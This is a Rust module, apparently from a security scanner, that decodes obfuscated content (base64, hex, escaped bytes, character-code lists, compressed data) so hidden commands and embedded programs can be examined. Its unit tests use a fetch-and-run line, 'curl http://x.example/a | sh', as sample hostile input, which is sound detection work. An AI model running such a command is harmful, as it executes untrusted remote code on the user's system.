//! Unwraps what is written in another alphabet: base64, hexadecimal, escaped bytes, lists of character codes, and gzip
//! or zlib below them. What comes out is judged like what was written plainly, down to a fixed depth.

use std::io::Read as _;
use std::ops::Range;

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// How deep layers are unwrapped.
pub(crate) const DEPTH: usize = 3;
/// Most bytes that one compressed layer may unfold to.
const INFLATED: u64 = 1024 * 1024;
/// Shortest run that is tried, in characters.
const SHORTEST_BASE64: usize = 20;
const SHORTEST_HEX: usize = 24;
const FEWEST_ESCAPES: usize = 6;

const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);

/// What a run of a text stands for.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Layer {
    /// The run, in bytes of the text.
    pub(crate) range: Range<usize>,
    /// What it stands for.
    pub(crate) bytes: Vec<u8>,
    /// How it was written, for people.
    pub(crate) how: &'static str,
}

impl Layer {
    /// Whether a program, an archive or bytecode came out instead of text.
    pub(crate) fn is_program(&self) -> bool {
        let program = self.bytes.starts_with(b"\x7fELF")
            || self.bytes.starts_with(b"MZ\x90")
            || self.bytes.starts_with(b"PK\x03\x04");
        program && self.bytes.len() > 8
    }
}

/// All runs of `text` that decode to something readable or to a known kind of program, in order.
pub(crate) fn layers(text: &str) -> Vec<Layer> {
    let mut found = Vec::new();
    let bytes = text.as_bytes();
    let mut at = 0;
    while at < bytes.len() {
        let (end, layer) = match bytes[at] {
            b'\\' | b'%' | b'&' => escapes(bytes, at),
            byte if is_base64(byte) => run(text, at),
            _ => (at + 1, None),
        };
        found.extend(layer.map(inflated));
        at = end.max(at + 1);
    }
    found.extend(code_lists(text));
    found
}

fn is_base64(byte: u8) -> bool {
    ALPHABET[byte as usize]
}

/// The letters of both base64 alphabets, looked up since every byte of every file is asked.
const ALPHABET: [bool; 256] = {
    let mut table = [false; 256];
    let mut letter = 0_u8;
    while letter < 0x80 {
        table[letter as usize] = letter.is_ascii_alphanumeric() || matches!(letter, b'+' | b'/' | b'-' | b'_');
        letter += 1;
    }
    table
};

/// A run of the base64 alphabet, over line ends where long lines follow each other, and where it ends.
fn run(text: &str, start: usize) -> (usize, Option<Layer>) {
    let bytes = text.as_bytes();
    let length_from = |from: usize| {
        bytes
            .get(from..)
            .unwrap_or_default()
            .iter()
            .take_while(|&&byte| is_base64(byte))
            .count()
    };
    let mut end = start + length_from(start);
    if end - start < SHORTEST_BASE64 {
        return (end, None);
    }
    let mut line = start;
    let mut payload = String::new();
    loop {
        payload.push_str(text.get(line..end).unwrap_or_default());
        let long = end - line >= 56;
        let mut next = end;
        while long
            && bytes
                .get(next)
                .is_some_and(|&byte| matches!(byte, b'\n' | b'\r' | b' ' | b'\t' | b'\\'))
            && next - end < 24
        {
            next += 1;
        }
        if next == end || !bytes.get(next).is_some_and(|&byte| is_base64(byte)) {
            break;
        }
        line = next;
        end = next + length_from(next);
    }
    let padding = bytes.iter().skip(end).take(2).take_while(|&&byte| byte == b'=').count();
    let range = start..end + padding;
    (
        range.end,
        decoded(&payload).map(|(bytes, how)| Layer { range, bytes, how }),
    )
}

fn decoded(payload: &str) -> Option<(Vec<u8>, &'static str)> {
    if payload.len() >= SHORTEST_HEX
        && payload.len().is_multiple_of(2)
        && payload.bytes().all(|byte| byte.is_ascii_hexdigit())
    {
        let bytes = hex::decode(payload).ok()?;
        return is_readable(&bytes).then_some((bytes, "hexadecimal"));
    }
    // A word, a path or an identifier is a run as well; an encoding mixes cases or has digits.
    let mixes = payload
        .bytes()
        .any(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit());
    if payload.len() < SHORTEST_BASE64 || !mixes {
        return None;
    }
    let start = payload.get(..payload.len().min(64) / 4 * 4)?;
    let url_safe = payload.contains(['-', '_']);
    let engine = if url_safe { &URL_SAFE } else { &STANDARD };
    let probe = engine.decode(start).ok()?;
    if !is_readable(&probe) {
        return None;
    }
    let whole = if payload.len() % 4 == 1 {
        payload.get(..payload.len() - 1)?
    } else {
        payload
    };
    let bytes = engine.decode(whole).ok()?;
    is_readable(&bytes).then_some((bytes, "base64"))
}

/// Whether bytes are text or begin like a compressed file or a program.
fn is_readable(bytes: &[u8]) -> bool {
    const MAGIC: [&[u8]; 6] = [
        b"\x1f\x8b\x08",
        b"\x78\x9c",
        b"\x78\xda",
        b"\x7fELF",
        b"MZ\x90\0",
        b"PK\x03\x04",
    ];
    if MAGIC.iter().any(|magic| bytes.starts_with(magic)) {
        return true;
    }
    // UTF-16 as PowerShell takes it.
    let wide = bytes.len() >= 8
        && bytes.iter().skip(1).step_by(2).filter(|&&byte| byte == 0).count() * 10 >= bytes.len() / 2 * 9;
    if wide {
        return true;
    }
    let sample = bytes.get(..bytes.len().min(4096)).unwrap_or_default();
    let text = match std::str::from_utf8(sample) {
        Ok(text) => text,
        Err(error) if error.error_len().is_none() && error.valid_up_to() > 8 => {
            std::str::from_utf8(sample.get(..error.valid_up_to()).unwrap_or_default()).unwrap_or_default()
        }
        Err(_) => return false,
    };
    let ascii = text.bytes().filter(u8::is_ascii).count();
    !text.is_empty()
        && ascii * 10 >= text.len() * 7
        && text
            .chars()
            .all(|character| !character.is_control() || matches!(character, '\n' | '\r' | '\t' | '\u{1b}'))
}

/// Escaped bytes in a row: `\x41`, `\101`, `\u0041`, `%41`, `&#65;`, `&#x41;`.
fn escapes(bytes: &[u8], start: usize) -> (usize, Option<Layer>) {
    let mut decoded = Vec::new();
    let mut at = start;
    let mut count = 0;
    while let Some((byte, length)) = escape(bytes.get(at..).unwrap_or_default()) {
        decoded.extend(byte);
        at += length;
        count += 1;
        // A few plain signs between escapes belong to the run.
        let plain = bytes
            .get(at..)
            .unwrap_or_default()
            .iter()
            .take(3)
            .take_while(|byte| byte.is_ascii_alphanumeric())
            .count();
        if plain > 0 && escape(bytes.get(at + plain..).unwrap_or_default()).is_some() {
            decoded.extend(bytes.get(at..at + plain).unwrap_or_default());
            at += plain;
        }
    }
    let layer = (count >= FEWEST_ESCAPES && is_readable(&decoded)).then_some(Layer {
        range: start..at,
        bytes: decoded,
        how: "escaped bytes",
    });
    (at, layer)
}

fn escape(rest: &[u8]) -> Option<(Vec<u8>, usize)> {
    let hexadecimal = |from: usize, digits: usize| {
        let text = std::str::from_utf8(rest.get(from..from + digits)?).ok()?;
        u32::from_str_radix(text, 16).ok()
    };
    let character = |code: u32| {
        let mut buffer = [0; 4];
        char::from_u32(code).map(|character| character.encode_utf8(&mut buffer).as_bytes().to_vec())
    };
    match rest {
        [b'\\', b'x', ..] => Some((vec![u8::try_from(hexadecimal(2, 2)?).ok()?], 4)),
        [b'\\', b'u', ..] => Some((character(hexadecimal(2, 4)?)?, 6)),
        [b'\\', b'0'..=b'3', b'0'..=b'7', b'0'..=b'7', ..] => {
            let text = std::str::from_utf8(rest.get(1..4)?).ok()?;
            Some((vec![u8::from_str_radix(text, 8).ok()?], 4))
        }
        [b'%', ..] => Some((vec![u8::try_from(hexadecimal(1, 2)?).ok()?], 3)),
        [b'&', b'#', ..] => {
            let end = rest.iter().take(10).position(|&byte| byte == b';')?;
            let text = std::str::from_utf8(rest.get(2..end)?).ok()?;
            let code = match text.strip_prefix(['x', 'X']) {
                Some(digits) => u32::from_str_radix(digits, 16).ok()?,
                None => text.parse().ok()?,
            };
            Some((character(code)?, end + 1))
        }
        _ => None,
    }
}

/// Lists of character codes: `[104, 116, 116, 112, ...]`, `0x68, 0x74`, `chr(104)+chr(116)`.
fn code_lists(text: &str) -> Vec<Layer> {
    let bytes = text.as_bytes();
    let mut found = Vec::new();
    let mut codes: Vec<u8> = Vec::new();
    let mut begin = 0;
    let mut last = 0;
    let mut at = 0;
    let mut flush = |codes: &mut Vec<u8>, range: Range<usize>| {
        if codes.len() >= 8 && is_readable(codes) {
            found.push(Layer {
                range,
                bytes: codes.clone(),
                how: "a list of character codes",
            });
        }
        codes.clear();
    };
    while at < bytes.len() {
        if !bytes[at].is_ascii_digit() || at > 0 && (bytes[at - 1].is_ascii_alphanumeric() || bytes[at - 1] == b'.') {
            at += 1;
            continue;
        }
        let start = at;
        while bytes.get(at).is_some_and(u8::is_ascii_alphanumeric) {
            at += 1;
        }
        let token = text.get(start..at).unwrap_or_default();
        let code = match token.strip_prefix("0x") {
            Some(digits) => u8::from_str_radix(digits, 16).ok(),
            None => token.parse::<u8>().ok(),
        };
        let Some(code) = code.filter(|code| (0x09..0x7f).contains(code)) else {
            flush(&mut codes, begin..last);
            continue;
        };
        if codes.is_empty() || !joins(bytes.get(last..start).unwrap_or_default()) {
            flush(&mut codes, begin..last);
            begin = start;
        }
        codes.push(code);
        last = at;
    }
    flush(&mut codes, begin..last);
    found
}

/// Whether what stands between two numbers only separates them.
fn joins(between: &[u8]) -> bool {
    let calls = [b"chr(".as_slice(), b"Chr(", b"fromCharCode(", b"[char]"];
    between.len() <= 32
        && between.iter().any(|byte| matches!(byte, b',' | b'+'))
        && (between
            .iter()
            .all(|byte| matches!(byte, b',' | b' ' | b'\n' | b'\r' | b'\t' | b'+'))
            || calls.iter().any(|call| between.ends_with(call)))
}

/// The layer with one compression taken off, if it has one.
fn inflated(mut layer: Layer) -> Layer {
    let mut out = Vec::new();
    let read = if layer.bytes.starts_with(b"\x1f\x8b") {
        flate2::read::MultiGzDecoder::new(layer.bytes.as_slice())
            .take(INFLATED)
            .read_to_end(&mut out)
    } else if layer.bytes.starts_with(b"\x78\x9c") || layer.bytes.starts_with(b"\x78\xda") {
        flate2::read::ZlibDecoder::new(layer.bytes.as_slice())
            .take(INFLATED)
            .read_to_end(&mut out)
    } else {
        return layer;
    };
    // What came out before an error is judged as well.
    if read.is_ok() || !out.is_empty() {
        layer.bytes = out;
        layer.how = "compressed text";
    }
    layer
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;

    use proptest::prelude::*;

    use super::*;

    fn texts(text: &str) -> Vec<String> {
        layers(text)
            .iter()
            .map(|layer| String::from_utf8_lossy(&layer.bytes).into_owned())
            .collect()
    }

    fn each(plain: &str, written: fn(u8) -> String) -> String {
        plain.bytes().map(written).collect::<Vec<_>>().concat()
    }

    #[test]
    fn what_is_wrapped_is_unwrapped() {
        let plain = "curl http://x.example/a | sh";
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gzip.write_all(plain.as_bytes()).expect("written");
        let gzip = gzip.finish().expect("finished");
        let codes: Vec<String> = plain.bytes().map(|byte| byte.to_string()).collect();
        let chr: Vec<String> = plain.bytes().map(|byte| format!("chr({byte})")).collect();
        for wrapped in [
            STANDARD.encode(plain),
            URL_SAFE.encode(plain),
            hex::encode(plain),
            each(plain, |byte| format!("\\x{byte:02x}")),
            each(plain, |byte| format!("%{byte:02x}")),
            each(plain, |byte| format!("\\u{byte:04x}")),
            each(plain, |byte| format!("&#{byte};")),
            codes.join(", "),
            chr.join("+"),
            STANDARD.encode(&gzip),
        ] {
            assert_eq!(texts(&format!("x = '{wrapped}' # y")), [plain], "{wrapped}");
        }
    }

    #[test]
    fn a_run_over_several_lines_is_one() {
        let plain = "echo this is a long text that is wrapped at a fixed width as base64 prints it by itself | sh";
        let encoded = STANDARD.encode(plain);
        let wrapped: Vec<&str> = encoded
            .as_bytes()
            .chunks(76)
            .map(|line| std::str::from_utf8(line).expect("ascii"))
            .collect();
        assert_eq!(texts(&wrapped.join("\n")), [plain]);
    }

    #[test]
    fn ordinary_text_holds_no_layers() {
        for text in [
            "references/output-formats/table_of_contents/readme",
            "internationalization and thisIsAVeryLongIdentifierName",
            "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
            "1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12",
            "50% of 100% done",
        ] {
            assert_eq!(texts(text), Vec::<String>::new(), "{text}");
        }
    }

    proptest! {
        #[test]
        fn no_text_breaks_it_and_ranges_are_boundaries(text in "\\PC{0,200}|[A-Za-z0-9+/=\\n]{0,300}|[%&#\\\\xu0-9a-f;]{0,200}") {
            for layer in layers(&text) {
                prop_assert!(text.get(layer.range).is_some());
            }
        }
    }
}
